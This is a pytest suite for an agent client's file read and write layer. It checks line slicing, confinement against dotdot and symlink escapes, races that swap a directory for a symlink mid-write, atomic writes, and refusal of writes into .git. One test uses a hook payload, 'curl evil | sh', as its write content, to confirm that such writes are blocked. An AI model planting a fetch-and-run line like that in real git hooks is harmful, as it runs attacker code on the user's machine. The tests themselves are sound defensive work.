"""v1 fs/read_text_file and fs/write_text_file: slicing, confinement, atomic writes."""

from __future__ import annotations

import ctypes
import os
import stat
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest

from acp_tui.client import fs as fs_module
from acp_tui.client.fs import MAX_READ_BYTES, FileSystemAccess
from acp_tui.protocol.jsonrpc import (
    INTERNAL_ERROR,
    INVALID_PARAMS,
    RESOURCE_NOT_FOUND,
    RpcError,
)

LINES = "one\ntwo\nthree\nfour\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    directory = tmp_path / "project"
    directory.mkdir()
    return directory


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    directory = tmp_path / "outside"
    directory.mkdir()
    (directory / "secret.txt").write_text("top secret\n")
    return directory


@pytest.fixture
def access(root: Path) -> FileSystemAccess:
    return FileSystemAccess(root)


def leftovers(directory: Path) -> list[str]:
    """Temporary files the writer may have left behind."""
    return [name for name in entries(directory) if name.endswith(".tmp")]


def entries(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir())


def resolved(path: Path) -> str:
    return os.path.realpath(path)


def read_at(name: str, dir_fd: int) -> bytes:
    """The content of `name` in the directory open at `dir_fd`."""
    fd = os.open(name, os.O_RDONLY, dir_fd=dir_fd)
    try:
        return os.read(fd, 1 << 20)
    finally:
        os.close(fd)


def temp_files(top: Path) -> list[str]:
    """Every writer's temporary file under `top`, symlinks not followed."""
    return [
        os.path.join(directory, name)
        for directory, _, files in os.walk(top)
        for name in files
        if name.endswith(".acp-tui.tmp")
    ]


# -- reading ---------------------------------------------------------------------------


async def test_read_whole_file(access: FileSystemAccess, root: Path) -> None:
    (root / "a.txt").write_text(LINES)
    assert await access.read_text_file(str(root / "a.txt")) == LINES


@pytest.mark.parametrize(
    ("line", "limit", "expected"),
    [
        (2, None, "two\nthree\nfour\n"),
        (None, 2, "one\ntwo\n"),
        (2, 2, "two\nthree\n"),
        (1, 1, "one\n"),
        (0, 1, "one\n"),  # 0 is read as the first line
        (4, 10, "four\n"),
        (3, 0, ""),
        (5, None, ""),  # just past the last line
        (99, 5, ""),
        (4_000_000_000, None, ""),  # uint32 range: stops at the end, no long loop
        (1, 4_000_000_000, LINES),
    ],
)
async def test_read_line_and_limit(
    access: FileSystemAccess,
    root: Path,
    line: int | None,
    limit: int | None,
    expected: str,
) -> None:
    (root / "a.txt").write_text(LINES)
    assert await access.read_text_file(str(root / "a.txt"), line, limit) == expected


async def test_read_last_line_without_newline(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "a.txt").write_bytes(b"one\ntwo")
    assert await access.read_text_file(str(root / "a.txt"), 2, 5) == "two"
    assert await access.read_text_file(str(root / "a.txt"), 3) == ""


async def test_read_keeps_crlf(access: FileSystemAccess, root: Path) -> None:
    (root / "dos.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    path = str(root / "dos.txt")
    assert await access.read_text_file(path) == "one\r\ntwo\r\nthree\r\n"
    assert await access.read_text_file(path, 2, 1) == "two\r\n"


async def test_read_invalid_utf8_is_replaced(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "bin.txt").write_bytes(b"caf\xc3\xa9 \xff\xfe end\n")
    assert (
        await access.read_text_file(str(root / "bin.txt")) == "café \ufffd\ufffd end\n"
    )


async def test_read_empty_file(access: FileSystemAccess, root: Path) -> None:
    (root / "empty").write_bytes(b"")
    assert await access.read_text_file(str(root / "empty")) == ""


async def test_read_missing_file_is_resource_not_found(
    access: FileSystemAccess, root: Path
) -> None:
    path = str(root / "nope.txt")
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(path)
    assert caught.value.code == RESOURCE_NOT_FOUND == -32002
    assert caught.value.message == "Resource not found"
    assert caught.value.data == path


async def test_read_below_a_file_is_resource_not_found(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "a.txt").write_text(LINES)
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(root / "a.txt" / "child"))
    assert caught.value.code == RESOURCE_NOT_FOUND


async def test_read_directory_is_invalid_params(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "sub").mkdir()
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(root / "sub"))
    assert caught.value.code == INVALID_PARAMS
    assert "directory" in caught.value.message


async def test_read_fifo_is_refused_without_blocking(
    access: FileSystemAccess, root: Path
) -> None:
    os.mkfifo(root / "pipe")
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(root / "pipe"))
    assert caught.value.code == INVALID_PARAMS
    assert "regular file" in caught.value.message


async def test_read_too_large_is_refused(
    access: FileSystemAccess, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fs_module, "MAX_READ_BYTES", 10)
    (root / "big.txt").write_text("0123456789abcdef\n")
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(root / "big.txt"), 1, 1)
    assert caught.value.code == INTERNAL_ERROR
    assert "too large" in caught.value.message
    assert "0123" not in str(caught.value)


def test_read_cap_is_sane() -> None:
    assert MAX_READ_BYTES == 50 * 1024 * 1024


async def test_read_permission_denied_is_internal_error(
    access: FileSystemAccess, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (root / "a.txt").write_text(LINES)

    def deny(*args: Any, **kwargs: Any) -> int:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "open", deny)
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(root / "a.txt"))
    assert caught.value.code == INTERNAL_ERROR
    assert caught.value.message == "Permission denied"


async def test_negative_line_or_limit_is_a_programming_error(
    access: FileSystemAccess, root: Path
) -> None:
    """The wire never gets here with one: the lenient parse makes it the default
    (tests/unit/client/test_v1_lenient_params.py)."""
    (root / "a.txt").write_text(LINES)
    for line, limit in [(-1, None), (None, -1)]:
        with pytest.raises(ValueError, match="negative"):
            await access.read_text_file(str(root / "a.txt"), line, limit)


# -- confinement -----------------------------------------------------------------------


@pytest.mark.parametrize("path", ["a.txt", "./a.txt", "", "project/a.txt"])
async def test_relative_path_is_rejected(
    access: FileSystemAccess, root: Path, path: str
) -> None:
    (root / "a.txt").write_text(LINES)
    for call in (access.read_text_file(path), access.write_text_file(path, "x")):
        with pytest.raises(RpcError) as caught:
            await call
        assert caught.value.code == INVALID_PARAMS
        assert "absolute" in caught.value.message


@pytest.mark.parametrize("name", ["a.txt/", "a.txt//", "sub/", "new.txt/"])
async def test_a_trailing_slash_is_rejected(
    access: FileSystemAccess, root: Path, name: str
) -> None:
    """A trailing slash names a directory: never read or write the file before it."""
    (root / "a.txt").write_text(LINES)
    (root / "sub").mkdir()
    path = f"{root}/{name}"
    for call in (
        lambda: access.read_text_file(path),
        lambda: access.write_text_file(path, "x"),
    ):
        with pytest.raises(RpcError) as caught:
            await call()
        assert caught.value.code == INVALID_PARAMS
        assert "slash" in caught.value.message
        assert caught.value.data == path
    assert (root / "a.txt").read_text() == LINES
    assert entries(root) == ["a.txt", "sub"]
    assert entries(root / "sub") == []


async def test_nul_in_path_is_rejected(access: FileSystemAccess, root: Path) -> None:
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(f"{root}/a\0b")
    assert caught.value.code == INVALID_PARAMS


async def test_dotdot_escape_is_rejected(
    access: FileSystemAccess, root: Path, outside: Path
) -> None:
    path = f"{root}/../outside/secret.txt"
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(path)
    error = caught.value
    assert error.code == INVALID_PARAMS
    assert "outside" in error.message
    assert error.data["path"] == path
    assert error.data["allowedRoots"] == [resolved(root)]
    assert "top secret" not in repr(error.data) + error.message


async def test_dotdot_escape_is_rejected_for_writes(
    access: FileSystemAccess, root: Path, outside: Path
) -> None:
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(f"{root}/sub/../../outside/new.txt", "x")
    assert caught.value.code == INVALID_PARAMS
    assert not (outside / "new.txt").exists()
    assert not (root / "sub").exists()


async def test_dotdot_inside_the_root_is_fine(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "sub").mkdir()
    (root / "a.txt").write_text(LINES)
    assert await access.read_text_file(f"{root}/sub/../a.txt") == LINES


async def test_root_prefix_is_not_enough(
    access: FileSystemAccess, root: Path, tmp_path: Path
) -> None:
    sibling = tmp_path / "project-evil"
    sibling.mkdir()
    (sibling / "x.txt").write_text("x")
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(sibling / "x.txt"))
    assert caught.value.code == INVALID_PARAMS


async def test_symlink_escape_is_rejected(
    access: FileSystemAccess, root: Path, outside: Path
) -> None:
    (root / "link.txt").symlink_to(outside / "secret.txt")
    (root / "linkdir").symlink_to(outside)
    for path in (root / "link.txt", root / "linkdir" / "secret.txt"):
        with pytest.raises(RpcError) as caught:
            await access.read_text_file(str(path))
        assert caught.value.code == INVALID_PARAMS
        assert "top secret" not in str(caught.value)


async def test_symlink_escape_is_rejected_for_writes(
    access: FileSystemAccess, root: Path, outside: Path
) -> None:
    (root / "link.txt").symlink_to(outside / "secret.txt")
    (root / "dangling").symlink_to(outside / "not-yet.txt")
    (root / "linkdir").symlink_to(outside)
    for path in (
        root / "link.txt",
        root / "dangling",
        root / "linkdir" / "new.txt",
        root / "linkdir" / "deeper" / "new.txt",
    ):
        with pytest.raises(RpcError) as caught:
            await access.write_text_file(str(path), "pwned")
        assert caught.value.code == INVALID_PARAMS
    assert (outside / "secret.txt").read_text() == "top secret\n"
    assert entries(outside) == ["secret.txt"]


async def test_symlink_inside_the_root_is_followed(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "real.txt").write_text(LINES)
    (root / "alias.txt").symlink_to(root / "real.txt")
    assert await access.read_text_file(str(root / "alias.txt")) == LINES
    await access.write_text_file(str(root / "alias.txt"), "new\n")
    assert (root / "real.txt").read_text() == "new\n"
    assert (root / "alias.txt").is_symlink()


async def test_root_given_through_a_symlink(root: Path, tmp_path: Path) -> None:
    (root / "a.txt").write_text(LINES)
    via = tmp_path / "via"
    via.symlink_to(root)
    access = FileSystemAccess(via)
    assert await access.read_text_file(str(via / "a.txt")) == LINES
    assert await access.read_text_file(str(root / "a.txt")) == LINES


async def test_additional_directory_is_allowed(root: Path, outside: Path) -> None:
    access = FileSystemAccess(root, [outside])
    assert access.roots == (root, outside)
    assert await access.read_text_file(str(outside / "secret.txt")) == "top secret\n"
    await access.write_text_file(str(outside / "more" / "new.txt"), "hi\n")
    assert (outside / "more" / "new.txt").read_text() == "hi\n"


async def test_root_itself_is_inside(access: FileSystemAccess, root: Path) -> None:
    with pytest.raises(RpcError) as caught:
        await access.read_text_file(str(root))
    assert caught.value.code == INVALID_PARAMS
    assert "directory" in caught.value.message


def test_relative_root_is_a_programming_error(root: Path) -> None:
    with pytest.raises(ValueError, match="absolute"):
        FileSystemAccess(Path("relative"))
    with pytest.raises(ValueError, match="absolute"):
        FileSystemAccess(root, [Path("relative")])


# -- writing ---------------------------------------------------------------------------


async def test_write_creates_file_and_parents(
    access: FileSystemAccess, root: Path
) -> None:
    target = root / "a" / "b" / "c.txt"
    await access.write_text_file(str(target), "hello\n")
    assert target.read_text() == "hello\n"
    assert leftovers(target.parent) == []


async def test_write_overwrites(access: FileSystemAccess, root: Path) -> None:
    target = root / "a.txt"
    target.write_text("old content that is longer\n")
    await access.write_text_file(str(target), "new\n")
    assert target.read_text() == "new\n"
    assert leftovers(root) == []


async def test_write_content_verbatim(access: FileSystemAccess, root: Path) -> None:
    target = root / "a.txt"
    content = "crlf\r\nlone cr\rtab\tunicode é 中 🎉\n"
    await access.write_text_file(str(target), content)
    assert target.read_bytes() == content.encode("utf-8")
    assert await access.read_text_file(str(target)) == content


async def test_write_empty_content(access: FileSystemAccess, root: Path) -> None:
    target = root / "a.txt"
    target.write_text("something")
    await access.write_text_file(str(target), "")
    assert target.read_bytes() == b""


async def test_write_preserves_mode(access: FileSystemAccess, root: Path) -> None:
    target = root / "script.sh"
    target.write_text("#!/bin/sh\n")
    target.chmod(0o751)
    await access.write_text_file(str(target), "#!/bin/sh\necho hi\n")
    assert stat.S_IMODE(target.stat().st_mode) == 0o751
    assert target.read_text() == "#!/bin/sh\necho hi\n"


async def test_new_file_gets_the_umask_mode(
    access: FileSystemAccess, root: Path
) -> None:
    old = os.umask(0o022)
    try:
        await access.write_text_file(str(root / "new.txt"), "x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((root / "new.txt").stat().st_mode) == 0o644


async def test_write_is_atomic_when_replace_fails(
    access: FileSystemAccess, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = root / "a.txt"
    target.write_text("original\n")

    def broken_rename(src: str, dst: str, **dir_fds: int) -> None:
        assert read_at(src, dir_fds["src_dir_fd"]) == b"new content\n"  # all written
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(os, "rename", broken_rename)
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(target), "new content\n")
    assert caught.value.code == INTERNAL_ERROR
    assert caught.value.message == "I/O error: Input/output error"
    assert "new content" not in str(caught.value)
    assert target.read_text() == "original\n"
    assert leftovers(root) == []


async def test_write_cleans_up_when_writing_fails(
    access: FileSystemAccess, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = root / "a.txt"
    target.write_text("original\n")

    def full_disk(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(target), "new content\n")
    assert caught.value.code == INTERNAL_ERROR
    assert "No space left" in caught.value.message
    assert target.read_text() == "original\n"
    assert leftovers(root) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores directory permissions")
async def test_write_into_read_only_directory(
    access: FileSystemAccess, root: Path
) -> None:
    locked = root / "locked"
    locked.mkdir()
    (locked / "a.txt").write_text("original\n")
    locked.chmod(0o555)
    try:
        with pytest.raises(RpcError) as caught:
            await access.write_text_file(str(locked / "a.txt"), "new\n")
    finally:
        locked.chmod(0o755)
    assert caught.value.code == INTERNAL_ERROR
    assert (locked / "a.txt").read_text() == "original\n"
    assert leftovers(locked) == []


async def test_write_permission_denied_is_internal_error(
    access: FileSystemAccess, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def deny(*args: Any, **kwargs: Any) -> int:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "open", deny)
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "a.txt"), "x")
    assert caught.value.code == INTERNAL_ERROR
    assert caught.value.message == "Permission denied"


async def test_write_to_directory_is_invalid_params(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "sub").mkdir()
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "sub"), "x")
    assert caught.value.code == INVALID_PARAMS
    assert "directory" in caught.value.message
    assert (root / "sub").is_dir()
    assert leftovers(root) == []


async def test_write_below_a_file_is_invalid_params(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "a.txt").write_text(LINES)
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "a.txt" / "b" / "c.txt"), "x")
    assert caught.value.code == INVALID_PARAMS
    assert (root / "a.txt").read_text() == LINES


async def test_write_to_fifo_is_refused(access: FileSystemAccess, root: Path) -> None:
    os.mkfifo(root / "pipe")
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "pipe"), "x")
    assert caught.value.code == INVALID_PARAMS
    assert stat.S_ISFIFO((root / "pipe").stat().st_mode)


async def test_write_lone_surrogate_is_invalid_params(
    access: FileSystemAccess, root: Path
) -> None:
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "a.txt"), "bad \ud800 text")
    assert caught.value.code == INVALID_PARAMS
    assert not (root / "a.txt").exists()


async def test_write_long_file_name(access: FileSystemAccess, root: Path) -> None:
    target = root / ("n" * 250)
    await access.write_text_file(str(target), "x")
    assert target.read_text() == "x"
    assert leftovers(root) == []


async def test_write_long_multibyte_file_name(
    access: FileSystemAccess, root: Path
) -> None:
    """80 CJK characters are 240 bytes: the temporary name must stay under 255."""
    target = root / ("字" * 80)
    await access.write_text_file(str(target), "x")
    assert target.read_text() == "x"
    assert leftovers(root) == []


async def test_symlink_loop_is_refused(access: FileSystemAccess, root: Path) -> None:
    (root / "loop").symlink_to(root / "loop")
    (root / "ping").symlink_to(root / "pong")
    (root / "pong").symlink_to(root / "ping")
    for name in ("loop", "ping"):
        with pytest.raises(RpcError) as caught:
            await access.read_text_file(str(root / name))
        assert caught.value.code == INVALID_PARAMS
        with pytest.raises(RpcError) as caught:
            await access.write_text_file(str(root / name), "x")
        assert caught.value.code == INVALID_PARAMS
    assert (root / "loop").is_symlink()
    assert leftovers(root) == []


# -- atomicity and confinement, more closely -----------------------------------------


async def test_write_replaces_the_file_rather_than_rewriting_it(
    access: FileSystemAccess, root: Path
) -> None:
    """A reader holding the old file (here a hard link) never sees new bytes."""
    target = root / "a.txt"
    target.write_text("original\n")
    old = root / "old-link"
    os.link(target, old)
    before = target.stat().st_ino
    await access.write_text_file(str(target), "new content\n")
    assert target.read_text() == "new content\n"
    assert old.read_text() == "original\n"
    assert target.stat().st_ino != before


async def test_write_is_complete_and_fsynced_before_the_rename(
    access: FileSystemAccess, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = root / "a.txt"
    target.write_text("original\n")
    events: list[str] = []
    real_fsync, real_rename = os.fsync, os.rename

    def fsync(fd: int) -> None:
        events.append("fsync")
        real_fsync(fd)

    def rename(src: str, dst: str, **dir_fds: int) -> None:
        events.append("rename")
        assert read_at(src, dir_fds["src_dir_fd"]) == b"new content\n"
        assert target.read_text() == "original\n"  # untouched until the rename
        real_rename(src, dst, **dir_fds)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "rename", rename)
    await access.write_text_file(str(target), "new content\n")
    assert events[:2] == ["fsync", "rename"]
    assert target.read_text() == "new content\n"
    assert leftovers(root) == []


async def test_writes_outside_every_root_are_refused_and_leave_nothing(
    access: FileSystemAccess, root: Path, outside: Path, tmp_path: Path
) -> None:
    sibling = tmp_path / "project-evil"
    sibling.mkdir()
    for path in (
        outside / "new.txt",
        outside / "deeper" / "new.txt",
        sibling / "x.txt",
        tmp_path / "top.txt",
    ):
        with pytest.raises(RpcError) as caught:
            await access.write_text_file(str(path), "pwned")
        assert caught.value.code == INVALID_PARAMS
        assert caught.value.data["path"] == str(path)
        assert "pwned" not in repr(caught.value.data)
    assert entries(outside) == ["secret.txt"]
    assert entries(sibling) == []
    assert not (tmp_path / "top.txt").exists()


async def test_a_root_swapped_for_a_symlink_later_is_checked_again(
    root: Path, outside: Path, tmp_path: Path
) -> None:
    """Roots are resolved at each call, not once: a moved root confines anew."""
    via = tmp_path / "via"
    via.symlink_to(root)
    access = FileSystemAccess(via)
    await access.write_text_file(str(via / "a.txt"), "inside\n")
    assert (root / "a.txt").read_text() == "inside\n"
    via.unlink()
    via.symlink_to(outside)
    await access.write_text_file(str(via / "b.txt"), "still inside the root\n")
    assert (outside / "b.txt").read_text() == "still inside the root\n"
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "c.txt"), "x")
    assert caught.value.code == INVALID_PARAMS
    assert not (root / "c.txt").exists()


# -- a directory swapped for a symlink while writes run ------------------------------

RENAME_EXCHANGE = 2
"""`renameat2` flag: swap two names atomically (Linux 3.15)."""

AT_FDCWD = -100


def exchanger() -> Callable[[Path, Path], None] | None:
    """`swap(a, b)`: exchange two names atomically; None where it is unavailable."""
    if sys.platform != "linux":
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    renameat2 = getattr(libc, "renameat2", None)
    if renameat2 is None:
        return None
    renameat2.argtypes = [
        ctypes.c_int,
        ctypes.c_char_p,
        ctypes.c_int,
        ctypes.c_char_p,
        ctypes.c_uint,
    ]

    def swap(a: Path, b: Path) -> None:
        if renameat2(AT_FDCWD, bytes(a), AT_FDCWD, bytes(b), RENAME_EXCHANGE) != 0:
            error = ctypes.get_errno()
            raise OSError(error, os.strerror(error))

    return swap


@contextmanager
def swapping(sub: Path, link: Path) -> Iterator[list[int]]:
    """Another thread swaps `sub` and `link` over and over, as fast as it can,
    until the block ends; yields `[swaps made]`. Skips without `renameat2`."""
    swap = exchanger()
    if swap is None:
        pytest.skip("needs renameat2(RENAME_EXCHANGE)")
    stop = threading.Event()
    swaps = [0]

    def swapper() -> None:
        while not stop.is_set():
            swap(sub, link)
            swaps[0] += 1

    thread = threading.Thread(target=swapper)
    old_interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)  # interleave the two threads finely
    thread.start()
    try:
        yield swaps
    finally:
        stop.set()
        thread.join()
        sys.setswitchinterval(old_interval)


WRITES = 200
"""Writes made while another thread swaps a directory for a symlink."""

READS = 500
"""Reads made while another thread swaps a directory for a symlink."""


@pytest.mark.parametrize("depth", ["sub", "sub/deeper"])
async def test_a_directory_swapped_for_a_symlink_never_redirects_or_litters(
    access: FileSystemAccess, root: Path, outside: Path, tmp_path: Path, depth: str
) -> None:
    """A local process swaps `sub` for a symlink out of the project, over and over,
    while the agent writes below it: nothing lands outside, no temporary file is
    left anywhere, and each write either lands in the real `sub` or is refused."""
    sub = root / "sub"
    (root / depth).mkdir(parents=True)
    link = root / "sub-link"
    link.symlink_to(outside)
    (outside / "deeper").mkdir()
    real_inode = sub.stat().st_ino
    written: list[str] = []
    refused: list[RpcError] = []
    with swapping(sub, link) as swaps, anyio.fail_after(60):
        for n in range(WRITES):
            content = f"write {n}\n"
            try:
                await access.write_text_file(f"{root}/{depth}/file.txt", content)
            except RpcError as error:
                refused.append(error)
            else:
                written.append(content)
    assert swaps[0] > 0
    assert written, "no write got through"
    assert entries(outside) == ["deeper", "secret.txt"]
    assert entries(outside / "deeper") == []
    assert (outside / "secret.txt").read_text() == "top secret\n"
    assert temp_files(tmp_path) == []
    assert {error.code for error in refused} <= {INVALID_PARAMS}, refused[:3]
    real = sub if sub.stat(follow_symlinks=False).st_ino == real_inode else link
    target = real.joinpath(*Path(depth).parts[1:], "file.txt")
    assert target.read_text() == written[-1]


async def test_a_read_never_follows_a_swapped_directory_out(
    access: FileSystemAccess, root: Path, outside: Path
) -> None:
    """The same swap while reading `sub/secret.txt`: the outside file of that name
    is never read."""
    sub = root / "sub"
    sub.mkdir()
    (sub / "secret.txt").write_text("inside\n")
    link = root / "sub-link"
    link.symlink_to(outside)
    contents: list[str] = []
    refused: list[RpcError] = []
    with swapping(sub, link) as swaps, anyio.fail_after(60):
        for _ in range(READS):
            try:
                contents.append(await access.read_text_file(f"{sub}/secret.txt"))
            except RpcError as error:
                refused.append(error)
    assert swaps[0] > 0
    assert "inside\n" in contents
    assert set(contents) == {"inside\n"}
    assert {error.code for error in refused} <= {INVALID_PARAMS}, refused[:3]


async def test_a_hard_link_to_an_outside_file_reads_it_and_a_write_breaks_it(
    access: FileSystemAccess, root: Path, outside: Path
) -> None:
    """The documented limit of the confinement (module docstring, README): a read
    cannot tell where a file's other names are, so a hard link inside a root
    reads the outside file; a write replaces the name, never the outside file."""
    os.link(outside / "secret.txt", root / "linked.txt")
    assert await access.read_text_file(str(root / "linked.txt")) == "top secret\n"
    await access.write_text_file(str(root / "linked.txt"), "mine\n")
    assert (root / "linked.txt").read_text() == "mine\n"
    assert (outside / "secret.txt").read_text() == "top secret\n"
    assert (outside / "secret.txt").stat().st_nlink == 1


# -- read-only files -------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o444, 0o400, 0o555])
async def test_a_read_only_file_is_not_replaced(
    access: FileSystemAccess, root: Path, mode: int
) -> None:
    """As an editor would, even for root (the rename ignores the file's mode)."""
    target = root / "locked.txt"
    target.write_text("original\n")
    target.chmod(mode)
    before = target.stat()
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(target), "new\n")
    assert caught.value.code == INTERNAL_ERROR
    assert "read-only" in caught.value.message
    assert caught.value.data == str(target)
    after = target.stat()
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)
    assert target.read_text() == "original\n"
    assert leftovers(root) == []


async def test_a_read_only_file_behind_a_symlink_is_not_replaced(
    access: FileSystemAccess, root: Path
) -> None:
    (root / "locked.txt").write_text("original\n")
    (root / "locked.txt").chmod(0o444)
    (root / "alias.txt").symlink_to(root / "locked.txt")
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "alias.txt"), "new\n")
    assert "read-only" in caught.value.message
    assert (root / "locked.txt").read_text() == "original\n"


async def test_a_writable_file_is_replaced_with_its_mode(
    access: FileSystemAccess, root: Path
) -> None:
    target = root / "owner-only.txt"
    target.write_text("original\n")
    target.chmod(0o600)
    await access.write_text_file(str(target), "new\n")
    assert target.read_text() == "new\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


# -- .git ------------------------------------------------------------------------------

GIT_PATHS = [
    ".git/hooks/pre-commit",  # a hook runs at the user's next commit
    ".git/config",  # core.fsmonitor, core.hooksPath, aliases...
    ".git/info/attributes",
    ".git",  # a worktree's or submodule's `.git` file
    "vendor/lib/.git/config",  # a nested repository
    ".Git/hooks/post-checkout",  # the same directory on a case-insensitive disk
]


@pytest.mark.parametrize("relative", GIT_PATHS)
async def test_writes_under_git_are_refused(
    access: FileSystemAccess, root: Path, relative: str
) -> None:
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    path = root / relative
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(path), "#!/bin/sh\ncurl evil | sh\n")
    error = caught.value
    assert error.code == INVALID_PARAMS
    assert ".git" in error.message
    assert "allow_git_writes" in error.message
    assert error.data == str(path)
    assert (root / ".git" / "config").read_text() == "[core]\n"
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert not (root / "vendor").exists()
    assert not (root / ".Git").exists() or (root / ".Git").samefile(root / ".git")
    assert temp_files(root) == []


async def test_a_symlink_into_git_is_refused_too(
    access: FileSystemAccess, root: Path
) -> None:
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "hooks").symlink_to(root / ".git" / "hooks")
    with pytest.raises(RpcError) as caught:
        await access.write_text_file(str(root / "hooks" / "pre-push"), "x")
    assert caught.value.code == INVALID_PARAMS
    assert not (root / ".git" / "hooks" / "pre-push").exists()


@pytest.mark.parametrize(
    "relative", [".gitignore", ".github/workflows/ci.yml", "git/config", ".git-x/a"]
)
async def test_names_that_only_look_like_git_are_written(
    access: FileSystemAccess, root: Path, relative: str
) -> None:
    await access.write_text_file(str(root / relative), "x\n")
    assert (root / relative).read_text() == "x\n"


async def test_git_is_readable(access: FileSystemAccess, root: Path) -> None:
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    assert await access.read_text_file(str(root / ".git" / "HEAD")) == (
        "ref: refs/heads/main\n"
    )


async def test_git_writes_when_the_user_allows_them(
    access: FileSystemAccess, root: Path
) -> None:
    hook = root / ".git" / "hooks" / "pre-commit"
    await access.write_text_file(str(hook), "x\n", allow_git=True)
    assert hook.read_text() == "x\n"


async def test_a_root_inside_a_git_directory_is_not_refused(tmp_path: Path) -> None:
    """Only `.git` below a root counts: the user chose the root."""
    root = tmp_path / "bare.git" / ".git" / "work"
    root.mkdir(parents=True)
    access = FileSystemAccess(root)
    await access.write_text_file(str(root / "a.txt"), "x\n")
    assert (root / "a.txt").read_text() == "x\n"
